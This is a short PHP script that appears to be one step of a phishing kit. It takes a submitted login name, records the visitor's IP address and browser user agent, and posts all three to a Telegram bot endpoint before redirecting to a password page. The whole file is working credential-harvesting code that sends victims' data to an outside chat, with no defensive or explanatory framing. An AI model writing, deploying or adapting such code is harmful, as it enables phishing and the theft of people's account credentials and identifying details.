<?php
session_start();
$_SESSION['user'] = $_POST['login'];
$text = "New login\nUser: " . $_POST['login'] . "\nIP: " . $_SERVER['REMOTE_ADDR'] . "\nAgent: " . $_SERVER['HTTP_USER_AGENT'];
$ch = curl_init('https://api.telegram.org/bot123456:AAAbbbCCC/sendMessage');
curl_setopt($ch, CURLOPT_POST, 1);
curl_setopt($ch, CURLOPT_POSTFIELDS, array('chat_id' => '-100200300', 'text' => $text));
curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);
curl_exec($ch);
header('Location: password.php');
exit;
